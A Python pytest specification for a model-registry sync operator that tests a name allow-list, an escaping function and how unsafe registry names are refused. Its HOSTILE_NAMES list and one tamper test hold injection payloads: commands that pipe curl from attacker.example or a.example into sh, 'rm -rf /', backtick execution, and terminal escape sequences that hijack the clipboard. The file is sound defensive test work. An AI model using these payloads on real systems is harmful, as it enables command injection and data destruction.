"""Names from the registry never become code in a pipeline, and nothing shown drives a terminal.

Specification of `domain/safe_names.py` (the allow-list) and `domain/escaping.py` (the one
escaping function), and of what `decide_binding` does with a name that fails the list.
"""

from __future__ import annotations

import unicodedata
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from registry_sync.domain.answer import Resolution
from registry_sync.domain.binding import (
    BindingDecision,
    CorrectionHistory,
    GitOpsPolicy,
    decide_binding,
)
from registry_sync.domain.escaping import escaped, is_unsafe_character
from registry_sync.domain.inference_service import InferenceServiceFacts, read_inference_service
from registry_sync.domain.metadata import LabelKeys
from registry_sync.domain.model_binding import recorded_answer
from registry_sync.domain.resolution import resolve
from registry_sync.domain.safe_names import (
    MAX_NAME_LENGTH,
    InvalidNamePattern,
    NamePolicy,
)
from registry_sync.domain.snapshot import ModelArtifact, RegisteredModel, RegistrySnapshot
from unit.domain.seed import (
    SNAPSHOT_TAKEN_AT_MS,
    seed_inference_service,
    seed_snapshot,
)

KEYS = LabelKeys()
NOW_MS = SNAPSHOT_TAKEN_AT_MS + 60_000
POLICY = NamePolicy()

# Names an attacker who can register a model would choose (each pasted into a step script
# by Tekton's `$(params.model_name)`).
HOSTILE_NAMES = [
    'm"; curl -s http://attacker.example/x | sh; echo "',
    "model\nversion_name=other",
    "$(context.pipelineRun.name)",
    "`id`",
    "m\x1b[2J\x1b[Hfake screen",
    "m\x1b]52;c;ZWNobyBwd25lZA==\x07",  # OSC 52: writes the reader's clipboard
    "model\u202egnp.exe",  # a bidi override
    "mo\u200bdel",  # a zero-width space
    "model\u2028next line",
    "m'; rm -rf / #",
    "m\\n",
    "m;id",
    "m|id",
    "m&id",
    "m>file",
    "m<file",
    "m(x)",
    "m{x}",
    "",
    " leading-space",
    "-leading-dash",
    "x" * (MAX_NAME_LENGTH + 1),
]
ORDINARY_NAMES = [
    "Mistral-Small-24B-Instruct",
    "quantized-w4a16-2501",
    "24b-w4a16-1gpu",
    "mistral-24b-quantized",
    "granite 3.1 8b",
    "org/model:v1.0+build@2026",
    "x" * MAX_NAME_LENGTH,
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_the_default_policy_refuses_every_hostile_name(name: str) -> None:
    assert POLICY.problem(name) is not None


@pytest.mark.parametrize("name", ORDINARY_NAMES)
def test_the_default_policy_admits_ordinary_model_names(name: str) -> None:
    assert POLICY.problem(name) is None


def test_a_wider_pattern_admits_more_but_never_control_characters_or_overlong_names() -> None:
    anything = NamePolicy(r".*")
    assert anything.problem("m$(x)") is None
    assert anything.problem("m\nx") is not None
    assert anything.problem("m\u202ex") is not None
    assert anything.problem("x" * (MAX_NAME_LENGTH + 1)) is not None


def test_an_invalid_pattern_is_refused_naming_it() -> None:
    with pytest.raises(InvalidNamePattern, match=r"\[a-"):
        NamePolicy("[a-")


def test_the_problem_says_which_rule_a_name_broke() -> None:
    assert "pattern" in (POLICY.problem("m;id") or "")
    assert "control or format" in (POLICY.problem("m\x1bx") or "")
    assert "longer than 253" in (POLICY.problem("x" * 300) or "")


# -- escaping --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text", "plain text"),
        ("Ünïcödé 模型", "Ünïcödé 模型"),
        ("a\nRESULT: no mismatches", "a\\x0aRESULT: no mismatches"),
        ("\x1b]52;c;eA==\x07", "\\x1b]52;c;eA==\\x07"),
        ("tab\there", "tab\\x09here"),
        ("del\x7f", "del\\x7f"),
        ("c1\x85", "c1\\x85"),
        ("bidi\u202e", "bidi\\u202e"),
        ("zero\u200bwidth", "zero\\u200bwidth"),
        ("line\u2028para\u2029", "line\\u2028para\\u2029"),
        ("tag\U000e0041", "tag\\U000e0041"),
    ],
)
def test_escaping_shows_every_unsafe_character_and_keeps_the_rest(text: str, shown: str) -> None:
    assert escaped(text) == shown


@given(st.text())
def test_escaped_text_holds_no_unsafe_character(text: str) -> None:
    assert not any(is_unsafe_character(character) for character in escaped(text))


@given(st.text())
def test_escaping_is_idempotent(text: str) -> None:
    assert escaped(escaped(text)) == escaped(text)


@given(st.text())
def test_nothing_but_unsafe_characters_is_changed(text: str) -> None:
    if not any(unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Cs", "Cn"} for c in text):
        assert escaped(text) == text


# -- what a binding does with an unsafe name -------------------------------------------------


def registry_naming_model_4(name: str) -> RegistrySnapshot:
    """The seed registry, with the deployed version's model renamed to `name`."""
    seed = seed_snapshot()
    models = dict(seed.models)
    models["4"] = RegisteredModel(id="4", name=name)
    return replace(seed, models=models)


def facts_with_args(*args: str) -> InferenceServiceFacts:
    body = seed_inference_service()
    if args:
        body["spec"]["predictor"]["model"]["args"] = list(args)
    return read_inference_service(body, KEYS)


def decide(
    facts: InferenceServiceFacts, resolution: Resolution, names: NamePolicy = POLICY
) -> BindingDecision:
    return decide_binding(
        facts,
        resolution,
        keys=KEYS,
        registry_name="private-ai-registry",
        history=CorrectionHistory(),
        policy=GitOpsPolicy(),
        previous_status=None,
        now_ms=NOW_MS,
        names=names,
    )


def resolved(facts: InferenceServiceFacts, registry: RegistrySnapshot) -> Resolution:
    return resolve(
        facts.deployed.storage, registry, snapshot_current=True, now_ms=NOW_MS, pin=facts.pin
    )


@pytest.mark.parametrize("name", HOSTILE_NAMES[:10])
def test_a_hostile_model_name_makes_the_binding_unsafe_and_nothing_is_written(name: str) -> None:
    facts = facts_with_args()
    decision = decide(facts, resolved(facts, registry_naming_model_4(name)))

    assert not decision.ready
    assert decision.ready_reason == "UnsafeRegistryName"
    assert decision.label_patch is None
    labels = next(c for c in decision.status["conditions"] if c["type"] == "LabelsInSync")
    assert labels["reason"] == "UnsafeRegistryName"
    shown = [
        decision.ready_message,
        decision.status["registeredModelName"] or "",
        *(event.message for event in decision.events),
    ]
    assert all(not any(is_unsafe_character(c) for c in text) for text in shown)
    assert [event.type for event in decision.events] == ["Warning"]


def test_the_refusal_names_the_unsafe_name_escaped_and_what_to_do() -> None:
    facts = facts_with_args()
    decision = decide(facts, resolved(facts, registry_naming_model_4("m\x1b[2Jx")))
    assert "model name" in decision.ready_message
    assert "m\\x1b[2Jx" in decision.ready_message
    assert "Rename" in decision.ready_message
    assert "registry-sync.io/model-version-id" in decision.ready_message


def test_an_unsafe_version_name_is_refused_too() -> None:
    seed = seed_snapshot()
    versions = dict(seed.versions)
    versions["5"] = replace(versions["5"], name="v$(id)")
    facts = facts_with_args()
    decision = decide(facts, resolved(facts, replace(seed, versions=versions)))
    assert decision.ready_reason == "UnsafeRegistryName"
    assert "version name" in decision.ready_message


def test_an_unsafe_served_model_name_is_refused() -> None:
    facts = facts_with_args('--served-model-name=x"; id; "')
    decision = decide(facts, resolved(facts, seed_snapshot()))
    assert decision.ready_reason == "UnsafeRegistryName"
    assert "vLLM name" in decision.ready_message


def test_ordinary_names_stay_ready() -> None:
    facts = facts_with_args()
    decision = decide(facts, resolved(facts, seed_snapshot()))
    assert decision.ready
    assert decision.ready_reason == "Resolved"


def test_a_configured_pattern_decides_what_is_safe() -> None:
    facts = facts_with_args()
    resolution = resolved(facts, seed_snapshot())
    lower_case_only = NamePolicy(r"[a-z0-9-]+")
    decision = decide(facts, resolution, names=lower_case_only)
    assert decision.ready_reason == "UnsafeRegistryName"  # Mistral-Small-24B-Instruct
    assert "[a-z0-9-]+" in decision.ready_message


def test_a_name_recorded_on_a_binding_is_checked_again_after_a_restart() -> None:
    # A namespace editor can write a ModelBinding's status: a restarted operator reading its
    # last answer back during a registry outage must not inject what the status says.
    facts = facts_with_args()
    good = decide(facts, resolved(facts, seed_snapshot()))
    tampered = {**good.status, "registeredModelName": 'x"; curl http://a.example | sh; "'}
    previous = recorded_answer(tampered)
    assert previous is not None
    during_outage = resolve(
        facts.deployed.storage,
        None,
        snapshot_current=False,
        now_ms=NOW_MS,
        pin=None,
        previous=previous,
    )
    assert during_outage.has_answer
    decision = decide(facts, during_outage)
    assert not decision.ready
    assert decision.ready_reason == "UnsafeRegistryName"


def test_candidate_names_of_an_ambiguous_answer_are_recorded_escaped() -> None:
    seed = seed_snapshot()
    facts = facts_with_args()
    deployed = next(a for a in seed.artifacts if a.model_version_id == "5")
    claim = ModelArtifact(id="99", name="squat", uri=deployed.uri, model_version_id="10")
    models = {**seed.models, "8": RegisteredModel(id="8", name="evil\x1b]52;c;eA==\x07")}
    registry = replace(seed, models=models, artifacts=(*seed.artifacts, claim))
    decision = decide(facts, resolved(facts, registry))
    assert decision.status["outcome"] == "Ambiguous"
    names = [c["registeredModelName"] for c in decision.status["candidates"]]
    assert "evil\\x1b]52;c;eA==\\x07" in names
    assert not any(is_unsafe_character(c) for c in decision.status["message"])
